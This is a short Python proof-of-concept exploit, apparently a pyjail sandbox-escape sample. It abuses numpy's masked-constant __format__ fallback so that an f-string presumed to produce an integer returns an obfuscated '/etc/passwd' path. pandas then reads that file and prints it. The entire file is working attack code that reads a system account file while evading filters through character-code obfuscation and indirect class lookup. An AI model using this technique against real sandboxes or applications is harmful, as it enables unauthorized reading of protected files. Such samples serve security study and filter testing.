# source: pyjail "format spec" / __format__ hijack tricks (HackTricks bypass-python-sandboxes); numpy/ma/core.py MaskedConstant.__format__ fallback to str(self)
# family: library __format__ that falls back to an overridable __str__; class obtained with `type` passed as a value (map(type, ...))
# goal: read /etc/passwd via pd.read_csv(f"{m:03d}") where "{m:03d}" is trusted as an integer
import numpy as np
import pandas as pd

Base = next(map(type, [np.ma.masked]))


class M(Base):
    def __str__(self):
        return "".join(map(chr, [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100]))


m = M()
print(pd.read_csv(f"{m:03d}", sep="\x01", header=None).to_string())
